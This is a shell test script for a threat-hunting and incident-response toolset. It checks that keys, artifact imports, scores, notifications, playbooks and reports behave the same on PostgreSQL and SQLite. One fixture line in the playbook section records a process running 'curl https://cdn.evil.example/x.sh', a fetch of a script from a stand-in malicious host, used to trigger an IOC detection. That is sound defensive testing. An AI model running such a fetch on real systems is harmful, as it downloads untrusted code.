#!/bin/sh
# SPDX-License-Identifier: MIT
# The tools beyond the vertical slice on PostgreSQL (issue 16), each
# step run on a PostgreSQL 15 store and on a SQLite twin and the answers
# compared, reduced to what does not depend on the store (ids, times):
# the installation's keys (list, rotate, rekey), vc-hunt config, an
# artifact import with vc-score stack --stored and analyze, vc-notify
# (rules, send, list, events, a file channel forwarded to), vc-playbook
# (check, plan, run with an approval, executions) and vc-report (the
# built-in templates as JSON and HTML).
. "$(dirname "$0")/lib.sh"

pg_start
PW='sturdy tuna lantern'
LITE=$T/lite.db
run_in "$PW" vc-auth --db "$OWNER" init --tenant acme --admin root --password-stdin
is "$rc" 0 "vc-auth init on PostgreSQL"
run_in "$PW" vc-auth --db "$LITE" init --tenant acme --admin root --password-stdin
is "$rc" 0 "vc-auth init on the SQLite twin"
export VC_DB="$APP"
run_in "$PW" vc-auth login root --password-stdin
run_in "$PW" vc-auth --db "$LITE" login root --password-stdin

# both DESC JQ CMD...: CMD on each store, each answer through jq -c JQ
# (stripping ids and times), must agree and not be empty.
both() {
	_d=$1 _j=$2; shift 2
	_pg=$(env VC_DB="$APP" "$@" 2>"$T/pg.err" | jq -c "$_j" 2>&1)
	_lite=$(env VC_DB="$LITE" "$@" 2>"$T/lite.err" | jq -c "$_j" 2>&1)
	if [ -n "$_pg" ] && [ "$_pg" = "$_lite" ]; then
		ok 0 "$_d: as on SQLite"
	else
		ok 1 "$_d: as on SQLite"
		echo "#   pg:     $(printf '%s' "$_pg" | head -c 400) $(head -c 300 "$T/pg.err")"
		echo "#   sqlite: $(printf '%s' "$_lite" | head -c 400) $(head -c 300 "$T/lite.err")"
	fi
}
# each CMD...: CMD on both stores, output dropped; fails when either fails.
each() {
	env VC_DB="$APP" "$@" > "$T/each.pg" 2>&1 && env VC_DB="$LITE" "$@" > "$T/each.lite" 2>&1 ||
	    { cat "$T/each.pg" "$T/each.lite" | head -n 5 | sed 's/^/#   /'; return 1; }
}

# ---- the installation's keys, vc-hunt config -----------------------------
KEYS='[.id, .state, .secrets]'
both "vc-auth key list" "$KEYS" vc-auth key list
sh "$TOP/tests/fixtures/vr/mkcerts.sh" "$T/certs" 8001 > /dev/null 2>&1
export VC_ALLOW_VELOCIRAPTOR=127.0.0.1
CFG='[.name, .api_connection_string, .pinned_name, .cert_fingerprint]'
both "vc-hunt config set" "$CFG" vc-hunt config set --api-config "$T/certs/api_client.yaml"
both "vc-hunt config show" "$CFG" vc-hunt config show
run vc-auth key list
is "$(jqr 'select(.id == 1) | .secrets')" 1 "the client key is sealed under key 1"
both "vc-auth key rotate" ".key_id" vc-auth key rotate
run vc-auth key rekey
is "$rc:$(printf '%s\n' "$out" | jq -rs 'map(select(.table == "velociraptor_configs"))[0] | "\(.secrets) \(.resealed) \(.key_id)"')" \
    "0:1 1 2" "vc-auth key rekey re-seals the client key under key 2 (a row found by its ctid)"
env VC_DB="$LITE" vc-auth key rekey > /dev/null
both "the keys after the rekey" "$KEYS" vc-auth key list
both "the config opens under the new key" "$CFG" vc-hunt config show
run vc-auth key rekey
is "$rc:$(printf '%s\n' "$out" | jq -s 'map(.resealed) | add')" "0:0" "a second rekey has nothing to re-seal"
both "the mail password is sealed too" "[.url, .user, .password_set]" \
    sh -c 'printf "pw\n" | vc-auth mail set --url smtp://127.0.0.1:2525 --from vc@example.test --user u --password-stdin'
both "mail set again replaces its one row" "[.url, .user, .password_set]" \
    vc-auth mail set --url smtp://127.0.0.1:2526 --from vc@example.test --insecure-plaintext
both "so the keys seal one secret again" "$KEYS" vc-auth key list

# ---- artifacts and scores --------------------------------------------------
"$TOP/bench/gen.py" pslist 2000 20 > "$T/ps.jsonl"
IMP='[.name, .rows, .bad_lines, .hosts_created]'
both "vc-case artifact import" "$IMP" vc-case artifact import --name Windows.System.Pslist --hunt H.1 "$T/ps.jsonl"
printf '%s\n' '{"Name":"EVIL.EXE","Exe":"C:\\x\\evil.exe","Hash":{"SHA256":"AB"},"Fqdn":"orphan.corp"}' \
    '{"Name":42,"Pid":7}' > "$T/edge.jsonl"
both "an import with odd rows" "$IMP" vc-case artifact import --name Custom.Edge "$T/edge.jsonl"
STK='[.key, .hosts, .rows]'
for f in Name Exe Hash.SHA256 CommandLine Authenticode.Trusted Pid; do
	both "vc-score stack --by $f --stored" "$STK" vc-score stack --by "$f" --stored
done
both "vc-score stack --stored --artifact" "$STK" vc-score stack --by Name,Username --stored \
    --artifact Windows.System.Pslist
both "artifact rows --where" "." sh -c 'vc-case artifact rows "$(vc-case artifact list | jq -r \
    "select(.name == \"Windows.System.Pslist\") | .id")" --where ".Name == \"evil.exe\""'
SC='[.subject_type, .rows_scored, .rows_flagged, .score, .confidence, .classification,
    [.indicators[] | [.kind, .id, .level]]]'
both "vc-score analyze artifact" "$SC" sh -c 'vc-score analyze artifact "$(vc-case artifact list |
    jq -r "select(.name == \"Windows.System.Pslist\") | .id")"'
for c in $(jq -r .ClientId "$T/ps.jsonl" | sort -u | head -n 6); do
	each vc-score analyze host "$c" || ok 1 "vc-score analyze host $c"
done
both "vc-score analyze host" "$SC" vc-score analyze host "$(jq -r .ClientId "$T/ps.jsonl" | sort -u | sed -n 7p)"

# ---- vc-notify -------------------------------------------------------------
RULE='[.on, .when, .to]'
both "vc-notify rule add" "$RULE" vc-notify rule add --on 'case.*' --to role:admin
both "vc-notify rule add --when" "$RULE" vc-notify rule add --on case.created \
    --when '.severity == "critical"' --to user:root
both "vc-notify rule list" "$RULE" vc-notify rule list
env VC_DB="$APP" vc-notify channel add siem --kind file --target "$T/siem-pg.jsonl" --type 'case.*' \
    --since 0 > /dev/null
is "$?" 0 "vc-notify channel add (a file channel)"
env VC_DB="$LITE" vc-notify channel add siem --kind file --target "$T/siem-lite.jsonl" --type 'case.*' \
    --since 0 > /dev/null
each vc-case create "Beacon on ws00001" --severity critical --tag c2 || ok 1 "vc-case create"
each vc-case create "Phish" --severity low || ok 1 "vc-case create"
NOTE='[.target, .title, ((.body | fromjson? | del(.case_id)) // .body), (.rule_id != null), .read_at]'
both "notifications made by the rules" "$NOTE" vc-notify list
both "vc-notify send" "[.target, .title]" vc-notify send --to user:root --title hello --body there
both "vc-notify list --unread" "$NOTE" vc-notify list --unread
both "vc-notify read --all" ".marked" vc-notify read --all
both "nothing unread after" "." sh -c 'vc-notify list --unread | wc -l'
EV='[.type, (.body | del(.case_id))]'
run vc-notify events --type 'case.*'
is "$(printf '%s\n' "$out" | jq -r .type | tr '\n' ' ')" "case.created case.created " \
    "vc-notify events --type: the two cases"
is "$(printf '%s\n' "$out" | jq -c "$EV")" \
    "$(vc-notify --db "$LITE" events --type 'case.*' | jq -c "$EV")" "... as on SQLite"
E1=$(printf '%s\n' "$out" | head -n 1 | jq -r .id)
LE1=$(vc-notify --db "$LITE" events --type 'case.*' | head -n 1 | jq -r .id)
is "$(vc-notify events --since "$E1" --type 'case.*' | jq -c "$EV")" \
    "$(vc-notify --db "$LITE" events --since "$LE1" --type 'case.*' | jq -c "$EV")" \
    "vc-notify events --since the first: the second, as on SQLite"
both "vc-notify forward --once" "[.channel, .delivered]" vc-notify forward --channel siem --once
is "$(jq -c "$EV" "$T/siem-pg.jsonl")" "$(jq -c "$EV" "$T/siem-lite.jsonl")" \
    "the file channel holds the same events"
is "$(wc -l < "$T/siem-pg.jsonl" | tr -d ' ')" 2 "... the two cases"
both "a second forward delivers nothing" ".delivered" vc-notify forward --channel siem --once
both "vc-notify channel list" "[.name, .kind, .types, .failures, .last_error]" vc-notify channel list
# A rule that sends to a channel; the channel's test event.
both "vc-notify rule add --to channel:" "$RULE" vc-notify rule add --on case.closed --to channel:siem
both "the channel lists its rule" "[.name, (.rules | length), .forwarder]" vc-notify channel list
both "vc-notify channel test" "." vc-notify channel test siem
is "$(tail -n 1 "$T/siem-pg.jsonl" | jq -c '[.id, .type, (.created_at | test("^20")), .body]')" \
    '[0,"notify.test",true,{"test":true,"channel":"siem","by":"root"}]' "... a test event in the file, as on SQLite"
is "$(tail -n 1 "$T/siem-lite.jsonl" | jq -c '[.id, .type, (.created_at | test("^20")), .body]')" \
    '[0,"notify.test",true,{"test":true,"channel":"siem","by":"root"}]' "... (SQLite's)"
# A channel of the audit chain: each record as JSON (its details JSON too).
env VC_DB="$APP" vc-notify channel add aud --kind file --target "$T/aud-pg.jsonl" --source audit \
    --since 0 > /dev/null
env VC_DB="$LITE" vc-notify channel add aud --kind file --target "$T/aud-lite.jsonl" --source audit \
    --since 0 > /dev/null
both "vc-notify forward of the audit chain" "[.channel, .error]" vc-notify forward --channel aud --once
AUD='select(.type | test("^audit\\.(auth\\.init|cases\\.)")) | [.type, (.body | keys), .body.outcome,
    (.body.details | type), .body.key_id]'
is "$(jq -c "$AUD" "$T/aud-pg.jsonl")" "$(jq -c "$AUD" "$T/aud-lite.jsonl")" \
    "the file channel holds the same audit records, in the same form"
like "$(head -n 1 "$T/aud-pg.jsonl" | jq -c .body.details)" '^\{"superadmin":"root"\}$' \
    "... their details as JSON"
# events --follow: a negative LIMIT parameter is no limit on PostgreSQL too.
vc-notify events --follow --type 'case.*' > "$T/follow" 2> "$T/follow.err" &
FOL=$!
echo "$FOL" >> "$T/pids"
sleep 1
each vc-case create "Followed"
await 30 grep -q Followed "$T/follow"
ok $? "vc-notify events --follow sees a new case"
kill "$FOL"
is "$(cat "$T/follow.err")" "" "... and says nothing on stderr"

# ---- vc-playbook -------------------------------------------------------------
cat > "$T/pb.yaml" <<'EOF'
name: tagit
trigger: {type: manual}
steps:
  - name: lab
    action: add_label
    params: {host: "${client}", label: quarantined}
    requires_approval: true
  - name: case
    action: create_case
    params: {title: "Quarantined ${client}", severity: high, host: "${client}", tags: [pb]}
  - name: tell
    action: send_notification
    params: {to: "role:admin", message: "${client}: case made"}
EOF
C1=$(jq -r .ClientId "$T/ps.jsonl" | sort -u | head -n 1)
EVJ="{\"client\":\"$C1\"}"
both "vc-playbook check" "[.valid, .playbook.steps[].action]" vc-playbook check "$T/pb.yaml"
both "vc-playbook add" "[.name, .version, .trigger_type, .enabled]" vc-playbook add "$T/pb.yaml"
both "vc-playbook plan" "[.steps[] | [.name, .params, .requires_approval]]" \
    vc-playbook plan tagit --event "$EVJ"
run vc-playbook run tagit --event "$EVJ"
is "$rc" 77 "a step that requires approval is not run without --approve (exit 77)"
PB='[.status, [.steps[] | [.name, .status, (.output | del(.case_id?, .host_id?, .notification_id?))]]]'
both "vc-playbook run --approve" "$PB" vc-playbook run tagit --approve --event "$EVJ"
both "vc-playbook executions" "[.playbook, .status, .trigger, .actor, .error]" vc-playbook executions
both "the label it set" ".labels" vc-hosts show "$C1"
both "the case it made" "[.title, .severity, .tags]" sh -c 'vc-case list --tag pb'

# An event trigger, run once however many processes take the event; a
# scheduled one, once when its time came.
cat > "$T/onscore.yaml" <<'EOF'
name: ioc hit
description: a notification and a block for each critical score
trigger: {type: event, events: [threat_score.created], condition: '.classification == "critical"'}
steps:
  - {name: tell, action: send_notification, params: {to: "role:admin", message: "critical ${subject}"}}
  - {name: block, action: block_ip, params: {address: 198.51.100.23, reason: "${score_id}", expires: 1d}}
EOF
each vc-playbook add "$T/onscore.yaml" || ok 1 "vc-playbook add (an event trigger)"
printf '{"type":"domain","value":"evil.example","severity":"high"}\n' > "$T/ioc.jsonl"
each vc-score ioc import "$T/ioc.jsonl" || ok 1 "vc-score ioc import"
printf '{"Name":"curl","CommandLine":"curl https://cdn.evil.example/x.sh"}\n' > "$T/curl.jsonl"
mkdir -p "$T/norules"
both "a critical score (an IOC hit)" "[.classification, .score]" sh -c 'vc-score analyze artifact \
    "$(vc-case artifact import "$0" --name Windows.System.Pslist | jq -r .id)" --rules "$1"' "$T/curl.jsonl" "$T/norules"
at_once "$T/d1" "$T/d2" vc-playbook due --run
# The one that finds the tenant's lock held says so and ends well; the
# other runs the playbook (tests/cli/95-pg-sched.t does so many times).
is "$r1:$r2" "0:0" "two due --run at once: both exit 0"
unlike "$(cat "$T/d1" "$T/d2" | grep -v '^{')" '.' "... saying nothing but JSON lines"
env VC_DB="$LITE" vc-playbook due --run > "$T/dl"
is "$(cat "$T/d1" "$T/d2" | grep '^{' | jq -r 'select(.busy == null) | "\(.playbook) \(.trigger) \(.status)"' | sort)" \
    "$(jq -r '"\(.playbook) \(.trigger) \(.status)"' "$T/dl" | sort)" \
    "two due --run at once: the playbook ran once an event, as one due --run on SQLite"
is "$(cat "$T/d1" "$T/d2" | grep "^{" | jq -r '.key // empty' | sort | uniq -d)" "" "... no event twice"
both "its execution" "[.playbook, .status, .trigger]" vc-playbook executions 'ioc hit'
both "due --run again: nothing" "." sh -c 'vc-playbook due --run | wc -l'
each vc-playbook add "$TOP/examples/playbooks/nightly-digest.json" || ok 1 "vc-playbook add (a schedule)"
psql_as "$SUPER" "UPDATE playbooks SET next_run_at = 1000 WHERE name = 'nightly-digest'" > /dev/null
sqlite3 "$LITE" "UPDATE playbooks SET next_run_at = 1000 WHERE name = 'nightly-digest'"
both "due --run runs a scheduled playbook whose time came" "[.playbook, .trigger, .key, .status]" vc-playbook due --run
both "... once" "." sh -c 'vc-playbook due --run | wc -l'

# ---- a database step's timeout (vc_store_deadline) ---------------------------------
# Another session holds the host's row (FOR UPDATE) for 8 s: the label
# step (timeout 1 s) gives up waiting for it after its second, not when
# the row is given back, and the step after it runs.
cat > "$T/slow.yaml" <<'EOF'
name: slow store
trigger: {type: manual}
steps:
  - name: label
    action: add_label
    params: {host: "${client}", label: slow}
    timeout: 1
    on_failure: continue
  - name: after
    action: send_notification
    params: {to: "role:admin", message: "after the lock"}
EOF
run vc-playbook add "$T/slow.yaml"
printf '%s\n' "BEGIN;" "SELECT 1 FROM hosts WHERE client_id = '$C1' FOR UPDATE;" "\\! touch $T/locked" \
    "SELECT pg_sleep(8);" "COMMIT;" > "$T/lock.sql"
"$PGBIN/psql" -X -q -f "$T/lock.sql" "$SUPER" > "$T/lock.out" 2>&1 &
LOCKER=$!
await 30 test -e "$T/locked"
t0=$(date +%s)
run vc-playbook run 'slow store' --event "$EVJ"
t1=$(date +%s)
is "$rc:$(jqr '"\(.status) \([.steps[].status] | join(" ")) \(.steps[0].timed_out)"')" "75:failed failed succeeded true" \
    "the database step timed out waiting for the row; on_failure: continue ran the next"
like "$(jqr .steps[0].error)" "^timed out after 1 s: .*timed out \(waiting for a lock\)" "... saying what it waited for"
ok "$([ $((t1 - t0)) -le 5 ]; echo $?)" "... after its timeout, not the lock's 8 s ($((t1 - t0)) s)"
# the lock given back now rather than at the end of its 8 s
psql_as "$SUPER" "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE query = 'SELECT pg_sleep(8);'" > /dev/null
wait $LOCKER
is "$(vc-hosts show "$C1" | jq -r '.labels | index("slow")')" null "the label was not set"
run vc-playbook run 'slow store' --event "$EVJ"
is "$rc:$(jqr '[.steps[].status] | join(" ")')" "0:succeeded succeeded" "with the row free, it runs"
env VC_DB="$LITE" vc-playbook add "$T/slow.yaml" > /dev/null
env VC_DB="$LITE" vc-playbook run 'slow store' --event "$EVJ" > /dev/null

# ---- vc-report -----------------------------------------------------------------
CASE=$(vc-case list --tag pb | jq -r .id)
LCASE=$(vc-case --db "$LITE" list --tag pb | jq -r .id)
for db in pg lite; do
	if [ $db = pg ]; then d=$APP c=$CASE; else d=$LITE c=$LCASE; fi
	VC_DB=$d vc-case note "$c" "looked at it" > /dev/null
	VC_DB=$d vc-report generate case_summary --case "$c" --format json -o "$T/case-$db.json" > "$T/rep.out" 2>&1
	is "$?" 0 "case_summary as JSON ($db)"
	VC_DB=$d vc-report generate case_summary --case "$c" -o "$T/case-$db.html" > "$T/rep.out" 2>&1
	is "$?" 0 "case_summary as HTML ($db)"
	VC_DB=$d vc-report generate host_analysis --host "$C1" --format json -o "$T/host-$db.json" > "$T/rep.out" 2>&1
	is "$?" 0 "host_analysis as JSON ($db)"
	VC_DB=$d vc-report generate threat_report --since -30d --format json -o "$T/threat-$db.json" > "$T/rep.out" 2>&1
	is "$?" 0 "threat_report as JSON ($db)"
	VC_DB=$d vc-report generate threat_report --since -30d -o "$T/threat-$db.html" > "$T/rep.out" 2>&1
	is "$?" 0 "threat_report as HTML ($db)"
done
grep -q "Quarantined $C1" "$T/case-pg.html"
ok $? "the case summary names the case"
# Reports reduced to what does not depend on the store: no ids (nor in
# text), times, tenant; lists sorted (rows of one second are in the order
# of their ids).
STRIP='del(.inputs, .sha256) | walk(if type == "object" then del(.id, .case_id, .host_id, .target_id,
    .subject_id, .created, .created_at, .updated_at, .at, .started, .opened, .last_seen,
    .first_seen, .tenant_id) elif type == "string" then gsub("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"; "ID")
    else . end) | walk(if type == "array" then sort else . end)'
same_json() {
	jq -S "$STRIP" "$1" > "$1.s"
	jq -S "$STRIP" "$2" > "$2.s"
	same "$1.s" "$2.s" "$3"
}
same_json "$T/case-pg.json" "$T/case-lite.json" "case_summary: the same data as on SQLite"
same_json "$T/host-pg.json" "$T/host-lite.json" "host_analysis: the same data as on SQLite"
same_json "$T/threat-pg.json" "$T/threat-lite.json" "threat_report: the same data as on SQLite"
is "$(jq -r '[.data.distribution[] | select(.hosts > 0)] | length > 0' "$T/threat-pg.json")" true \
    "... with a score distribution"
is "$(jq -r '.data.top_rules | length > 0' "$T/threat-pg.json")" true "... and the top rules"

# A case goes with its notes (the tools' role may delete those, not change them).
both "vc-case delete of a case with notes" "[.title, .deleted]" sh -c 'vc-case delete "$(vc-case list --tag pb | jq -r .id)"'
both "... and it is gone" "." sh -c 'vc-case list --tag pb | wc -l'
like "$(psql_as "$APP" "SET vc.tenant_id = '*'; UPDATE case_notes SET body = 'x'")" "permission denied|append-only" \
    "a note cannot be changed"

# ---- a large artifact import by COPY: bad lines, flat memory -------------
# 150,000 rows with a few bad lines among them (an unfinished row, a
# number, a row over the line limit is not needed: the numbers suffice):
# the answer and the bad lines' numbers are SQLite's, the typed stack
# columns answer the same stacks, and the peak memory of the import is
# that of one of 30,000 rows: the rows are streamed, a batch at a time.
"$TOP/bench/gen.py" pslist 150000 60 | awk 'NR == 7 { print "{\"Name\": oops" }
    NR == 77777 { print "42" } { print }' > "$T/big.jsonl"
sed -n "1,6p;8,30001p" "$T/big.jsonl" > "$T/small.jsonl"
/usr/bin/time -f %M -o "$T/rss.small" vc-case artifact import --name Small.Pslist "$T/small.jsonl" \
    > /dev/null 2>&1
/usr/bin/time -f %M -o "$T/rss.big" vc-case artifact import --name Big.Pslist "$T/big.jsonl" \
    > "$T/big.pg" 2> "$T/big.pg.err"
is "$?" 65 "150,000 rows with bad lines: exit 65, the good rows kept"
vc-case --db "$LITE" artifact import --name Small.Pslist "$T/small.jsonl" > /dev/null 2>&1
vc-case --db "$LITE" artifact import --name Big.Pslist "$T/big.jsonl" > "$T/big.lite" 2> "$T/big.lite.err"
is "$(jq -c '[.rows, .bad_lines, .hosts_created]' "$T/big.pg")" \
    "$(jq -c '[.rows, .bad_lines, .hosts_created]' "$T/big.lite")" "the same rows, bad lines and new hosts as SQLite"
is "$(jq -c '[.rows, .bad_lines]' "$T/big.pg")" "[150000,2]" "150,000 rows kept, 2 bad"
same "$T/big.pg.err" "$T/big.lite.err" "the bad lines named by number, as on SQLite"
like "$(tr '\n' ' ' < "$T/big.pg.err")" "big.jsonl:7: .*big.jsonl:77778: " "lines 7 and 77778"
small=$(tail -n 1 "$T/rss.small") big=$(tail -n 1 "$T/rss.big")
ok "$([ "$big" -le $((small + small / 4 + 8192)) ]; echo $?)" \
    "peak memory stays flat: 150,000 rows $big KiB, 30,000 rows $small KiB"
for f in Name CommandLine Hash.SHA256; do
	both "vc-score stack --by $f over the large import" "$STK" vc-score stack --by "$f" --stored \
	    --artifact Big.Pslist
done

run vc-auth audit verify
is "$rc:$(jqr .ok)" "0:true" "audit verify: the chains are whole"
done_testing
